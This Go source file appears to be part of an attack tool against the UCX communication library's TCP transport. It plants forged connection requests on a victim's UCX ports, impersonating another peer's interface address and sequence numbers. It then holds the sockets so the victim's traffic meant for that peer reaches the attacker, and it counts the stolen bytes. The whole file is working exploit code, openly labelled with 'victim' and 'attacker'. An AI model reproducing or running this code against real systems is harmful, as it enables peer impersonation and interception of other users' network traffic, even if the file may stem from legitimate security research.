package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// Planted connection requests: plain connections to the victim's UCX tcp ports, each with the
// tcp transport's connection request in another peer's name: that peer's interface address (as
// its own UCX would claim it) and a connection sequence number. UCX files an accepted request
// under the address it claims, and an endpoint the victim later opens to that address, or one
// it is opening, may pick the planted socket up instead of its own. The connections are held,
// and whatever the victim sends on them is read and counted: bytes past the CONN_ACK are the
// victim's traffic for the real peer, delivered to the attacker.

// planted is one held planted connection.
type planted struct {
	c      net.Conn
	acked  bool
	bytes  atomic.Int64 // received after the handshake
	closed atomic.Bool  // the victim closed it
}

// plant sends connection requests claiming each of c.Claims (the impersonated peer's UCX
// listening addresses, "ip:port") with sequence numbers 0..c.Count-1 to every UCX port of the
// victim whose address family matches, and holds the connections.
func (a *attacker) plant(c cmd) (map[string]any, error) {
	targets, skip, err := rawTargets(c)
	if err != nil || skip != "" {
		return map[string]any{"skipped": skip}, err
	}
	if c.Count <= 0 || len(c.Claims) == 0 {
		return nil, errors.New("plant: want claims (ip:port) and count (sequence numbers 0..count-1)")
	}
	sent, acked := 0, 0
	for _, t := range targets {
		for _, claim := range c.Claims {
			sa, family, err := sockaddrOf(claim)
			if err != nil {
				return nil, err
			}
			if family != t.Family {
				continue
			}
			for sn := range c.Count {
				p, err := plantOne(t, uint64(sn), sa)
				if err != nil {
					return nil, fmt.Errorf("plant %s claiming %s sn %d: %w", t.Addr, claim, sn, err)
				}
				sent++
				if p.acked {
					acked++
				}
				a.planted = append(a.planted, p)
			}
		}
	}
	return map[string]any{"sent": sent, "acked": acked}, nil
}

func plantOne(t rawTarget, sn uint64, sa []byte) (*planted, error) {
	c, err := net.DialTimeout("tcp", t.Addr, 2*time.Second)
	if err != nil {
		return nil, err
	}
	if _, err := c.Write(tcpConnRequest(sn, sa)); err != nil {
		c.Close()
		return nil, err
	}
	p := &planted{c: c}
	// The CONN_ACK (a tcp active message), then everything else is counted.
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	hdr := make([]byte, tcpAMHdrLen)
	if _, err := io.ReadFull(c, hdr); err == nil {
		body := make([]byte, binary.LittleEndian.Uint32(hdr[1:]))
		if _, err := io.ReadFull(c, body); err == nil && hdr[0] == tcpAMConnMgmt && len(body) >= 4 &&
			binary.LittleEndian.Uint32(body)&tcpConnAck != 0 {
			p.acked = true
		}
	}
	_ = c.SetReadDeadline(time.Time{})
	go func() {
		buf := make([]byte, 64<<10)
		for {
			n, err := c.Read(buf)
			p.bytes.Add(int64(n))
			if err != nil {
				p.closed.Store(true)
				return
			}
		}
	}()
	return p, nil
}

// plantStatus says how many planted connections are held, how many the victim closed, and how
// many bytes it sent on them after the handshake.
func (a *attacker) plantStatus() map[string]any {
	var closed int
	var bytes int64
	for _, p := range a.planted {
		if p.closed.Load() {
			closed++
		}
		bytes += p.bytes.Load()
	}
	return map[string]any{"held": len(a.planted), "closed_by_victim": closed, "bytes": bytes}
}

// plantRelease closes every planted connection.
func (a *attacker) plantRelease() map[string]any {
	m := a.plantStatus()
	var wg sync.WaitGroup
	for _, p := range a.planted {
		wg.Add(1)
		go func() { defer wg.Done(); p.c.Close() }()
	}
	wg.Wait()
	a.planted = nil
	return m
}

// sockaddrOf encodes "ip:port" as the struct sockaddr a UCX tcp interface puts in its
// connection request (sockaddr_in or sockaddr_in6, little-endian family, port in network
// order).
func sockaddrOf(hostport string) ([]byte, int, error) {
	h, p, err := net.SplitHostPort(hostport)
	if err != nil {
		return nil, 0, err
	}
	port, err := strconv.ParseUint(p, 10, 16)
	if err != nil {
		return nil, 0, err
	}
	ip := net.ParseIP(h)
	if ip == nil {
		return nil, 0, fmt.Errorf("claim %q: not an IP address", hostport)
	}
	if ip4 := ip.To4(); ip4 != nil {
		b := binary.LittleEndian.AppendUint16(nil, 2) // AF_INET
		b = binary.BigEndian.AppendUint16(b, uint16(port))
		b = append(b, ip4...)
		return append(b, make([]byte, 8)...), 4, nil
	}
	b := binary.LittleEndian.AppendUint16(nil, 10) // AF_INET6
	b = binary.BigEndian.AppendUint16(b, uint16(port))
	b = append(b, 0, 0, 0, 0)
	b = append(b, ip.To16()...)
	return append(b, 0, 0, 0, 0), 6, nil
}
